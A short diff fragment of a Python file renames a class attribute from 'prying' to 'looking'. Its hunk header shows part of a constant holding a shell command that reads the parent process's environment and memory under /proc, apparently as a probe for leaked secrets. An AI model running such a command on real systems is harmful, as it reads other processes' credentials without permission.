@@ -24,7 +24,7 @@ LOOK = "cat /proc/$PPID/environ; cat /proc/$PPID/mem 2>&1 | head -c 0; echo; tr 
 
 
 class Prying:
-    name = "prying"
+    name = "looking"
 
     @asynccontextmanager
     async def session(self, request):
